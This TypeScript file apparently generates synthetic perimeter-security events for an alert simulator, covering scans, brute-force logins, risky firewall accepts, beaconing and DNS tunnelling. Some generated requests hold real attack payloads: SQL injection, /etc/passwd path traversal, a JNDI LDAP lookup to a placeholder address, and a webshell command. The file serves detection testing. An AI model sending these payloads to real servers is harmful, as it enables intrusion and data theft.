/** Daily attempts on web servers and firewalls from the internet, and unwanted outbound traffic. */
import { dnsLookup, firewallVerdict, httpExchange, tlsSession } from '../events/network.ts';
import { type WebRequest, webRequest } from '../events/web.ts';
import { type Acted, type AlertTrigger, trigger, triggersOf } from './alert-trigger.ts';
import { strangers } from './linux.ts';

const officeAddress = ({ device, random }: Acted) => `10.${device.site.network}.20.${random.int(40, 75)}`;

const requests = triggersOf<Omit<WebRequest, 'from'>>('web', (scene, request) =>
  webRequest(scene, { from: scene.random.pick(strangers), ...request(scene) }),
)({ roles: ['webServer'], hours: 'any' });

const scanners = [
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project)',
  'feroxbuster/2.11.0',
  'gobuster/3.6',
] as const;
const guessedPaths = [
  '/old',
  '/test',
  '/dev',
  '/backup',
  '/cgi-bin/status',
  '/wp-admin',
  '/console',
  '/api/v2/debug',
  '/solr',
  '/manager/html',
] as const;
const oldServices = [
  'ftp-gateway.bank.example',
  'edi.supplier.example',
  'scale-terminal.example',
  'fax.partner.example',
] as const;

/** `count` events of one builder, evenly spread. */
const series = (
  scene: Acted,
  count: number,
  everyMs: number,
  make: (scene: Acted, index: number) => ReturnType<typeof webRequest>,
) => Array.from({ length: count }, (_, index) => make({ ...scene, at: scene.at + index * everyMs }, index));

export const perimeterTriggers: readonly AlertTrigger[] = [
  trigger('network/outdated-tls', 'informational', 30, { roles: ['resolver'] }, (scene) =>
    tlsSession(scene, {
      from: officeAddress(scene),
      to: `192.0.2.${scene.random.int(20, 60)}`,
      name: scene.random.pick(oldServices),
      version: scene.random.pick(['1.0', '1.1']),
    }),
  ),
  requests('scanner-user-agent', 'low', 26, ({ random }) => ({
    url: random.pick(guessedPaths),
    status: 301,
    agent: random.pick(scanners),
  })),
  trigger('web/forced-browsing', 'low', 1, { roles: ['webServer'], hours: 'any' }, (scene) => {
    const from = scene.random.pick(strangers);
    return series(scene, 32, 2_500, (each, index) =>
      webRequest(each, { from, url: `${guessedPaths[index % guessedPaths.length]}/${index}`, status: 404, bytes: 153 }),
    );
  }),
  trigger('network/port-scan', 'low', 3, { roles: ['firewall'], hours: 'any' }, (scene) => {
    const from = scene.random.pick(strangers);
    return series(scene, 16, 3_000, (each, index) =>
      firewallVerdict(each, { action: 'deny', from, to: scene.device.site.publicAddress, port: 20 + index * 7 }),
    );
  }),
  trigger('network/scripting-user-agent', 'low', 20, { roles: ['resolver'] }, (scene) =>
    httpExchange(scene, {
      from: officeAddress(scene),
      to: `203.0.113.${scene.random.int(200, 220)}`,
      host: 'updates.vendor.example',
      path: '/feed.json',
      agent: scene.random.pick([
        'python-requests/2.32.3',
        'Go-http-client/1.1',
        'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.20348.2700',
      ]),
    }),
  ),
  requests('sql-injection', 'medium', 12, ({ random }) => ({
    url: `/search?q=${random.pick(['seal', 'pump', 'kit'])}%27%20UNION%20SELECT%20null,version()--`,
    status: random.pick([400, 403, 500]),
  })),
  requests('path-traversal', 'medium', 10, ({ random }) => ({
    url: random.pick(['/static/../../../../etc/passwd', '/download?file=../../../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd']),
    status: 400,
  })),
  trigger('web/login-brute-force', 'medium', 0.8, { roles: ['webServer'], hours: 'night' }, (scene) => {
    const from = scene.random.pick(strangers);
    return series(scene, 42, 5_000, (each) => webRequest(each, { from, method: 'POST', url: '/login', status: 401, bytes: 310 }));
  }),
  trigger('network/file-sharing-to-internet', 'medium', 8, { roles: ['firewall'] }, (scene) =>
    firewallVerdict(scene, {
      action: 'accept',
      from: officeAddress(scene),
      to: `203.0.113.${scene.random.int(200, 240)}`,
      port: scene.random.pick([445, 3389]),
    }),
  ),
  trigger('network/network-sweep', 'medium', 2, { roles: ['firewall'] }, (scene) => {
    const from = officeAddress(scene);
    return series(scene, 14, 4_000, (each, index) =>
      firewallVerdict(each, { action: 'deny', from, to: `10.${scene.device.site.network}.1.${10 + index}`, port: 9100 }),
    );
  }),
  trigger('network/program-from-bare-address', 'medium', 7, { roles: ['resolver'] }, (scene) => {
    const to = `198.51.100.${scene.random.int(60, 99)}`;
    return httpExchange(scene, {
      from: officeAddress(scene),
      to,
      host: to,
      path: `/firmware/printer-${scene.random.int(1, 9)}.bin`,
    });
  }),
  trigger('network/self-signed-on-odd-port', 'medium', 5, { roles: ['resolver'] }, (scene) =>
    tlsSession(scene, {
      from: officeAddress(scene),
      to: `192.0.2.${scene.random.int(70, 90)}`,
      name: 'localhost',
      port: 8443,
      subject: 'CN=localhost',
      issuer: 'CN=localhost',
    }),
  ),
  requests('jndi-lookup', 'high', 8, ({ random }) => ({
    url: `/?id=$%7Bjndi:ldap://203.0.113.${random.int(30, 60)}:1389/a%7D`,
    status: 200,
  })),
  requests('sensitive-file-served', 'high', 2, ({ random }) => ({
    url: random.pick(['/.git/HEAD', '/db-backup.zip']),
    status: 200,
    bytes: 23,
  })),
  requests('webshell-request', 'high', 3, () => ({ url: '/uploads/2026/logo.php?cmd=whoami', status: 200, bytes: 9 })),
  requests('path-traversal-answered', 'high', 3, () => ({
    url: '/export?name=../../../../etc/passwd',
    status: 200,
    bytes: 1_842,
  })),
  trigger('network/remote-service-open-to-internet', 'high', 6, { roles: ['firewall'], hours: 'any' }, (scene) =>
    firewallVerdict(scene, {
      action: 'accept',
      from: scene.random.pick(strangers),
      to: `10.${scene.device.site.network}.1.${scene.random.int(12, 20)}`,
      port: scene.random.pick([3389, 5432, 445]),
    }),
  ),
  trigger('network/beacon-user-agent-or-path', 'high', 1.5, { roles: ['resolver'] }, (scene) =>
    httpExchange(scene, {
      from: officeAddress(scene),
      to: `203.0.113.${scene.random.int(60, 70)}`,
      host: 'cdn-sync.example',
      method: 'POST',
      path: '/submit.php',
      query: `id=${scene.random.int(100_000, 999_999)}`,
    }),
  ),
  trigger('network/dns-tunnelling', 'high', 2, { roles: ['resolver'], hours: 'night' }, (scene) => {
    const client = officeAddress(scene);
    return series(scene, 54, 4_000, (each) =>
      dnsLookup(each, {
        client,
        name: `${scene.random.hex(48)}.t.telemetry-sync.example`,
        type: 'TXT',
        answer: scene.random.hex(32),
      }),
    );
  }),
];
